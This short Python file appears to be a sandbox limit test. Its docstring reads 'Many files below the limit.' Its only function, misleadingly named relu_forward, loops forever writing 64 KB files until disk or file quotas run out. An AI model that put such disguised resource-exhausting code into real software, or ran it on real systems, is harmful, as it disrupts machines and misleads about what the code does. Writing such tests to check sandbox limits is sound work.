"""Many files below the limit."""
# ends: output

import numpy as np


def relu_forward(x):
    n = 0
    while True:
        n += 1
        with open(f"file{n}", "wb") as file:
            file.write(bytes(1 << 16))
